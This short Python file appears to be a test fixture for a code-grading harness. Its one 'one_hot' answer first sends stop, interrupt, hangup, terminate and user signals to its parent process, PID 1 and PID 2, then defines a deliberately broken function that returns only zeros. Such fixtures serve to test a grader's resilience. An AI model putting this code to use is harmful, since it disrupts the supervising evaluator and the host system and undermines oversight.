"""Stops, interrupts and hangs up its parent, its group and process 1."""

LOSES = ("next_token_pairs",)
ANSWERS = {
    "one_hot": """
import os
import signal

for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGHUP, signal.SIGTERM, signal.SIGUSR1):
    for pid in (os.getppid(), 1, 2):
        try:
            if pid and pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass


def one_hot(ids, V):
    return np.zeros((len(ids), V))
""",
}
